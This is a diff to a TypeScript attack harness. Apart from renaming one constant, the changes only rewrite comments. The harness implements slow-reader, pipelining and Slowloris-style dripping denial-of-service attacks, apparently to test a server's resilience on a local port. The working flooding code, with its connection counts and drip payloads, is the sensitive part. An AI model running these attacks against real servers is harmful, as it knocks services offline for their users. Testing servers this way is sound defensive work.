@@ -9,9 +9,9 @@ type Attack = (port: number, tokens: readonly string[]) => void;
 const NICE = 10;
 const READERS = 64;
 const READER_BYTES = 20 * 1024 * 1024;
-/** How often a slow reader takes what its system gives it at once: 64 KB at most. */
-const SIP_EVERY_MS = 1000;
-/** How an answer begins that has no list in it. */
+/** How often a slow reader reads one chunk of at most 64 KB. */
+const READ_EVERY_MS = 1000;
+/** Status line of a refused request. */
 const REFUSED = 'HTTP/1.1 503';
 const PIPELINED = 240;
 const PIPELINED_BYTES = 80 * 1024;
@@ -27,27 +27,27 @@ const head = (method: string, path: string, headers: Readonly<Record<string, str
     '',
   ].join('\r\n');
 
-/** Two accounts read lists of 20 MB on 64 connections, next to nothing at a time, and come back when they are cut off. */
+/** Two accounts read lists of 20 MB slowly on 64 connections, and reconnect when disconnected. */
 const slowReaders: Attack = (port, tokens) => {
   const open = (reader: number): void => {
     const socket = dial(port);
     socket.write(
       head('GET', `/sessions?bytes=${READER_BYTES}`, { authorization: `Bearer ${tokens[reader % 2] ?? ''}` }),
     );
-    const sip = setInterval(() => socket.resume(), SIP_EVERY_MS);
+    const reading = setInterval(() => socket.resume(), READ_EVERY_MS);
     socket.on('data', (piece: Buffer) => {
       if (piece.toString('latin1', 0, REFUSED.length) === REFUSED) socket.destroy();
       else socket.pause();
     });
     socket.once('close', () => {
-      clearInterval(sip);
-      setTimeout(() => open(reader), SIP_EVERY_MS);
+      clearInterval(reading);
+      setTimeout(() => open(reader), READ_EVERY_MS);
     });
   };
   for (let reader = 0; reader < READERS; reader += 1) open(reader);
 };
 
-/** Two connections pipeline 240 lists of 80 KB each, and never read. */
+/** Two connections each pipeline 240 requests for lists of 80 KB, and never read. */
 const pipelining: Attack = (port, tokens) => {
   for (const token of tokens.slice(0, 2)) {
     const call = head('GET', `/sessions?bytes=${PIPELINED_BYTES}`, { authorization: `Bearer ${token}` });
@@ -57,7 +57,7 @@ const pipelining: Attack = (port, tokens) => {
 
 const CHUNKED = { 'content-type': 'application/json', 'transfer-encoding': 'chunked' };
 const LARGE = { 'content-type': 'application/json', 'content-length': '100000' };
-/** What begins each of a second's dripping requests, and what drips. */
+/** The start of each request, and the bytes that are then sent slowly. */
 const DRIPPING: readonly (readonly [beginning: string, drip: string])[] = [
   [head('POST', '/login', CHUNKED), '1\r\n \r\n'],
   [head('POST', '/login', LARGE), ' '],
@@ -65,7 +65,7 @@ const DRIPPING: readonly (readonly [beginning: string, drip: string])[] = [
   ['POST /login HTTP/1.1\r\nhost: feltbook.example\r\n', 'x-drip: 1\r\n'],
 ];
 
-/** Twelve requests of each kind a second without a token, whose bodies or headers come byte by byte. */
+/** Slowloris: starts twelve requests of each kind per second without a token, and sends them byte by byte. */
 const dripping: Attack = (port) => {
   setInterval(() => {
     for (const [beginning, drip] of DRIPPING) {
@@ -86,13 +86,13 @@ const order = z.object({
   tokens: z.array(z.string()),
 });
 
-/** @param program that calls `attackInWorker` in a worker thread, so that attackers take no time of the other clients */
+/** Runs an attack in a worker thread, so that it does not block other clients. @param program calls `attackInWorker` */
 export function startAttack(program: string, data: z.output<typeof order>): { stop: () => Promise<number> } {
   const worker = new Worker(program, { workerData: data });
   return { stop: () => worker.terminate() };
 }
 
-/** Below normal priority, which counts for this thread only: an attack comes from elsewhere. */
+/** Runs with low priority in this thread only, because real attackers use other machines. */
 export function attackInWorker(): void {
   setPriority(NICE);
   const { attack, port, tokens } = order.parse(workerData);
